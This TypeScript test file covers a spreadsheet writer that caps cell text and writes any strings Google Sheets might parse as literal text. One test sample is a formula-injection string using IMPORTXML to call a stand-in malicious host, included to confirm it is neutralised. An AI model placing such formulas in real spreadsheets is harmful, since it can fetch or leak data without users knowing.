import {
  AUTOMATIC_FORMAT,
  CELL_TEXT_LIMIT,
  TEXT_FORMAT,
  capCellText,
  columnFormat,
  planLiteralText,
  RICH_TEXT_SLACK,
  planWrite,
  sheetsMayParse,
  type CellValue,
} from '../../src/core/cells';
import { readTypedText } from '../../dev/gas-fakes/cell-input';
import type { KindName } from '../../src/core/fields/catalog';
import { RESEARCH_COLUMNS } from '../../src/core/fields/defaults';
import { collectionColumns, flattenCollection, flattenRows } from '../../src/core/fields/flatten';
import { profileRecord } from './fields/samples';

const columns = (...kinds: KindName[]) => kinds.map((kind) => ({ kind }));

/** The invariant a plan keeps: no non-blank string lands in a column not formatted as text, where Sheets parses it. */
function isSafeToWrite(formats: readonly string[], rows: readonly (readonly CellValue[])[]): boolean {
  return rows.every((row) =>
    row.every((value, index) => typeof value !== 'string' || value === '' || formats[index] === TEXT_FORMAT),
  );
}

describe('capCellText', () => {
  it('keeps text that fits', () => {
    const fits = 'y'.repeat(CELL_TEXT_LIMIT);
    expect(capCellText(fits)).toBe(fits);
    expect(capCellText('')).toBe('');
  });

  it('cuts longer text to the limit, ending with how much was cut', () => {
    const capped = capCellText('x'.repeat(60_000));
    expect(capped.length).toBe(CELL_TEXT_LIMIT);
    const kept = capped.indexOf('…');
    expect(capped.slice(kept)).toBe(`… [truncated ${(60_000 - kept).toLocaleString('en-US')} characters]`);
  });

  it('never splits a surrogate pair', () => {
    // The cut the 31-character marker leaves room for (at 49,969) falls inside a pair, so it moves back one.
    const capped = capCellText('😀'.repeat(40_000));
    expect(capped).toBe('😀'.repeat(24_984) + '… [truncated 30,032 characters]');
    expect(capped).toHaveLength(CELL_TEXT_LIMIT - 1);
  });
});

describe('column formats', () => {
  it('formats text-like columns as plain text and numbers and booleans as Automatic', () => {
    const textLike: KindName[] = ['text', 'url', 'isoDate', 'textList', 'object', 'list', 'map', 'unknown'];
    for (const kind of textLike) expect(columnFormat(kind)).toBe(TEXT_FORMAT);
    expect(columnFormat('number')).toBe(AUTOMATIC_FORMAT);
    expect(columnFormat('boolean')).toBe(AUTOMATIC_FORMAT);
  });
});

describe('planWrite', () => {
  it('writes text that Sheets would parse into text columns', () => {
    const rows: CellValue[][] = [
      ['=IMPORTXML("http://evil.example")', '+14155550100', '1-10', '00501', 'TRUE', 500, true],
    ];
    const plan = planWrite(columns('text', 'text', 'text', 'isoDate', 'text', 'number', 'boolean'), rows);
    expect(plan.formats).toEqual([
      TEXT_FORMAT,
      TEXT_FORMAT,
      TEXT_FORMAT,
      TEXT_FORMAT,
      TEXT_FORMAT,
      AUTOMATIC_FORMAT,
      AUTOMATIC_FORMAT,
    ]);
    expect(plan.rows).toEqual(rows);
    expect(isSafeToWrite(plan.formats, plan.rows)).toBe(true);
  });

  it('turns a number column holding a string into a text column, its numbers written as text', () => {
    const plan = planWrite(columns('number', 'boolean', 'number'), [
      [500, true, 1],
      ['=1+1', false, ''],
      ['', 'yes', 2],
    ]);
    expect(plan.formats).toEqual([TEXT_FORMAT, TEXT_FORMAT, AUTOMATIC_FORMAT]);
    expect(plan.rows).toEqual([
      ['500', 'TRUE', 1],
      ['=1+1', 'FALSE', ''],
      ['', 'yes', 2],
    ]);
    expect(isSafeToWrite(plan.formats, plan.rows)).toBe(true);
  });

  it('writes numbers and booleans found in text columns as their text', () => {
    expect(planWrite(columns('text', 'unknown'), [[42, false]]).rows).toEqual([['42', 'FALSE']]);
  });

  it('plans flattened research rows and companion rows safely', () => {
    const profiles = [profileRecord, { ...profileRecord, id: 'p-2', connections_count: '500+' } as never];
    const data = flattenRows(profiles, RESEARCH_COLUMNS.all, { headers: false });
    const plan = planWrite(RESEARCH_COLUMNS.all, data);
    expect(isSafeToWrite(plan.formats, plan.rows)).toBe(true);
    const column = (name: string) => RESEARCH_COLUMNS.all.findIndex((field) => field.name === name);
    expect(plan.formats[column('summary')]).toBe(TEXT_FORMAT);
    expect(plan.formats[column('followers_count')]).toBe(AUTOMATIC_FORMAT);
    expect(plan.formats[column('connections_count')]).toBe(TEXT_FORMAT);
    expect(plan.rows[0][column('connections_count')]).toBe('500');

    const experience = planWrite(collectionColumns('experience'), flattenCollection(profileRecord, 'experience'));
    expect(isSafeToWrite(experience.formats, experience.rows)).toBe(true);
  });
});

describe('sheetsMayParse', () => {
  it.each([
    '=HYPERLINK("x")',
    '+14155550100',
    '-Minus Studio',
    '@channel',
    '#N/A',
    "'quoted",
    ' =1+1',
    'TRUE',
    'false',
    '1-10',
    '00501',
    '3/4',
    '12:30',
    '10:30 pm',
    '50%',
    '$5',
    '€5',
    '1,234.5',
    '1e3',
    '(12)',
    'Mar 2020',
    '5 May',
    'Monday, January 5, 2024',
    '2024-01-05T10:00:00Z',
    '5 mai 2024',
    '3 USD',
  ])('flags %p', (text) => {
    expect(sheetsMayParse(text)).toBe(true);
  });

  it.each([
    '',
    '   ',
    'hello',
    'Data engineer at Acme',
    '12 apples and 3 pears',
    '王芳',
    'האוניברסיטה העברית בירושלים',
    '🚀 Shipped the v2 platform with the team 👩‍💻✨',
    'https://example.com/in/jane-doe',
    'jane@example.com',
    '__proto__',
  ])('lets %p through as plain text', (text) => {
    expect(sheetsMayParse(text)).toBe(false);
  });

  it('flags every string the fakes read as something other than that text (a generated corpus)', () => {
    const pieces = [
      '0',
      '1',
      '9',
      '12',
      '00',
      '2024',
      '.',
      ',',
      ':',
      '/',
      '-',
      '+',
      '=',
      '%',
      '$',
      ' ',
      'e',
      'E',
      'am',
      'PM',
      'Jan',
      'may',
      'true',
      'x',
      'ab',
      "'",
      '#',
      '@',
      '(',
    ];
    let seed = 42;
    const next = () => (seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31) / 2 ** 31;
    const missed: string[] = [];
    for (let i = 0; i < 20_000; i++) {
      const length = 1 + Math.floor(next() * 5);
      const text = Array.from({ length }, () => pieces[Math.floor(next() * pieces.length)]).join('');
      const typed = readTypedText(text, 'General', Date.UTC(2025, 5, 15));
      const changed = typed.formula !== '' || typed.value !== text;
      if (changed && !sheetsMayParse(text)) missed.push(text);
    }
    expect(missed).toEqual([]);
  });
});

describe('planLiteralText', () => {
  /** The block as a sheet holds it after every setValues and then every patch, in order; which call wrote each cell. */
  function applied(rows: CellValue[][], keyOffset?: number) {
    const plan = planLiteralText(rows, keyOffset);
    const grid: CellValue[][] = rows.map((row) => row.map(() => 'UNWRITTEN'));
    const lastCall = rows.map((row) => row.map(() => -1));
    let call = 0;
    for (const { columnOffset, values } of plan.values) {
      expect(values).toHaveLength(rows.length);
      values.forEach((line, r) => line.forEach((value, c) => (grid[r][columnOffset + c] = value)));
      values.forEach((line, r) => line.forEach((_, c) => (lastCall[r][columnOffset + c] = call)));
      call++;
    }
    for (const patch of plan.patches) {
      patch.texts.forEach((line, r) =>
        line.forEach((text, c) => {
          expect(typeof text).toBe('string');
          grid[patch.rowOffset + r][patch.columnOffset + c] = text;
          lastCall[patch.rowOffset + r][patch.columnOffset + c] = call;
        }),
      );
      call++;
    }
    return { plan, grid, lastCall, calls: call };
  }

  it('writes a block without parseable text with setValues alone', () => {
    const rows: CellValue[][] = [
      ['Ann', 12, 'engineer'],
      ['Bo', 3, ''],
    ];
    expect(planLiteralText(rows)).toEqual({ values: [{ columnOffset: 0, values: rows }], patches: [] });
  });

  it('keeps parseable text out of setValues and patches one rectangle per run of text columns, whatever the rows', () => {
    const rows: CellValue[][] = Array.from({ length: 500 }, (_, i) => ['Ann', '1-10', i, '00501', 'ok']);
    const { plan, grid } = applied(rows);
    expect(
      plan.patches.map(({ rowOffset, columnOffset, texts }) => [
        rowOffset,
        columnOffset,
        texts.length,
        texts[0].length,
      ]),
    ).toEqual([
      [0, 1, 500, 1],
      [0, 3, 500, 1],
    ]);
    expect(plan.values).toHaveLength(1);
    expect(plan.values[0].values.every((row) => row[1] === '' && row[3] === '' && row[2] !== '')).toBe(true);
    expect(grid).toEqual(rows);
  });

  it('joins runs of adjacent columns when the cells it adds fit the slack, and leaves scattered cells alone', () => {
    const rows: CellValue[][] = Array.from({ length: 10 }, (_, i) => [`${i}/4`, i === 5 ? 'x' : `${i}-10`, 'a', 7]);
    rows[0][2] = '=X()';
    rows[9][2] = 'TRUE';
    const { plan, grid } = applied(rows);
    const shapes = plan.patches.map(({ rowOffset, columnOffset, texts }) => [
      rowOffset,
      columnOffset,
      texts.length,
      texts[0].length,
    ]);
    expect(shapes).toEqual([
      [0, 0, 10, 2],
      [0, 2, 1, 1],
      [9, 2, 1, 1],
    ]);
    expect(grid).toEqual(rows);
  });

  it('builds rich-text values for at most the cells that need one and the slack (random blocks)', () => {
    const samples: CellValue[] = ['', 'text', '=1+1', '00501', 7, 'x y', '3/4', 'TRUE', 'a', 'b'];
    let seed = 11;
    const pick = () => samples[(seed = (seed * 48_271) % 2_147_483_647) % samples.length];
    for (let block = 0; block < 200; block++) {
      const rows = Array.from({ length: 1 + (block % 40) }, () => Array.from({ length: 1 + (block % 9) }, pick));
      const plan = planLiteralText(rows);
      const needed = rows.flat().filter((value) => typeof value === 'string' && sheetsMayParse(value)).length;
      // The writer builds one value per distinct text of a block.
      const built = new Set(plan.patches.flatMap(({ texts }) => texts.flat())).size;
      expect(built).toBeLessThanOrEqual(needed + Math.floor(needed * RICH_TEXT_SLACK));
    }
  });

  it('writes an all-text block with rich text alone when the rectangle covering it fits the slack', () => {
    const rows: CellValue[][] = Array.from({ length: 5 }, (_, i) => [`=${i}`, i === 1 ? 'x' : `+${i}`]);
    expect(planLiteralText(rows)).toEqual({ values: [], patches: [{ rowOffset: 0, columnOffset: 0, texts: rows }] });
  });

  it('in a column mixing numbers and parseable text, patches the stretches of text', () => {
    const rows: CellValue[][] = [[1], ['TRUE'], ['=A1'], [2], ['ok'], ['3/4']];
    const { plan, grid } = applied(rows);
    expect(plan.patches).toEqual([
      { rowOffset: 1, columnOffset: 0, texts: [['TRUE'], ['=A1']] },
      { rowOffset: 5, columnOffset: 0, texts: [['3/4']] },
    ]);
    expect(grid).toEqual(rows);
  });

  it('writes the key column in the last call and in no other, even when no text of it could be parsed', () => {
    const rows: CellValue[][] = [
      ['=1', 'k1', 5, 'x'],
      ['y', 'k2', 6, '00501'],
    ];
    const { plan, grid, lastCall, calls } = applied(rows, 1);
    expect(grid).toEqual(rows);
    expect(lastCall.map((row) => row[1])).toEqual([calls - 1, calls - 1]);
    const keyWriters = [
      ...plan.values.filter(({ columnOffset, values }) => columnOffset <= 1 && 1 < columnOffset + values[0].length),
      ...plan.patches
        .slice(0, -1)
        .filter(({ columnOffset, texts }) => columnOffset <= 1 && 1 < columnOffset + texts[0].length),
    ];
    expect(keyWriters).toEqual([]);
  });

  it('never leaves parseable text in setValues, and rebuilds any block exactly (random blocks, with and without a key)', () => {
    const samples: CellValue[] = ['', 'text', '=1+1', '00501', 7, true, 'TRUE', 'x y', '3/4', 0];
    let seed = 7;
    const pick = () => samples[(seed = (seed * 48_271) % 2_147_483_647) % samples.length];
    for (let block = 0; block < 300; block++) {
      const height = 1 + (block % 6);
      const width = 1 + (block % 5);
      const rows = Array.from({ length: height }, () => Array.from({ length: width }, pick));
      const keyOffset = block % 3 === 0 ? block % width : undefined;
      if (keyOffset !== undefined) rows.forEach((row, r) => (row[keyOffset] = r % 2 ? `key ${r}` : `${r}`));
      const { plan, grid, lastCall, calls } = applied(rows, keyOffset);
      const leaked = plan.values.flatMap(({ values }) =>
        values.flat().filter((value) => typeof value === 'string' && sheetsMayParse(value)),
      );
      expect(leaked).toEqual([]);
      expect(grid).toEqual(rows);
      if (keyOffset !== undefined) expect(lastCall.every((row) => row[keyOffset] === calls - 1)).toBe(true);
    }
  });
});
